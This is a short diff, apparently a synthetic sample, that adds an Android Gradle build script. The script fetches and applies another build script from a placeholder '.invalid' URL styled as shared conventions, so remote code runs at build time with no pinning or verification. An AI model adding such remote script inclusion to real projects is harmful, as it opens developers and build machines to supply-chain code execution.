@@ -1,0 +1,3 @@
+plugins { id("com.android.application") }
+val sharedConventions = "https://conventions.android-build-helpers.invalid/common.gradle.kts"
+apply(from = sharedConventions)
